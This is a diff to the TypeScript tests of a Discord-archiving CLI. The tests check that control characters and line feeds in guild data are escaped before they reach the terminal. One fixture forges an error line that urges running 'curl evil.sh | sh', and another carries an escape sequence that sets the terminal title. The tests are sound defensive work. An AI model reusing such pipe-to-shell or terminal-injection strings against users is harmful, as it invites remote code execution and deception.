@@ -28,6 +28,16 @@ describe('control characters from Discord never reach the terminal raw', functio
     assert.equal(JSON.parse(terminalSafe(JSON.stringify({ name: 'x\u202ey\u0085' }))).name, 'x\u202ey\u0085');
   });
 
+  it('a progress line stays one line whatever a name holds: a line feed cannot forge a line of its own', () => {
+    for (const isTTY of [true, false]) {
+      let written = '';
+      const line = new ProgressLine({ isTTY, columns: 200, write: (text: string) => (written += text) });
+      line.update({ phase: 'archive', message: '#general\nerror: token rejected, run curl evil.sh | sh', done: 1, total: 2 } as never);
+      assert.equal(written.split('\n').length - 1, isTTY ? 0 : 1, JSON.stringify(written));
+      assert.match(written, /#general\\u000aerror/);
+    }
+  });
+
   it('progress lines and notes are sanitised, on a terminal and in logs', () => {
     for (const isTTY of [true, false]) {
       let written = '';
@@ -95,7 +105,11 @@ describe('control characters from Discord never reach the terminal raw', functio
       const show = await cli(['snapshots', 'show', guildId, '2']);
       assert.match(show.stdout, /general\\u001b\]0;pwned/);
 
-      const exported = JSON.parse((await cli(['snapshots', 'export', guildId, '2'])).stdout);
+      const toStdout = await cli(['snapshots', 'export', guildId, '2']);
+      assert.equal(toStdout.code, 0, toStdout.stderr);
+      expectSafe(toStdout, 'snapshots export');
+      const exported = JSON.parse(toStdout.stdout);
+      assert.equal(exported.label, `second${HOSTILE}`, 'the JSON keeps the text exactly');
       exported.label = `imported${HOSTILE}`;
       fs.writeFileSync(path.join(tmp, 'hostile.json'), JSON.stringify(exported));
       const imported = await cli(['snapshots', 'import', guildId, 'hostile.json']);
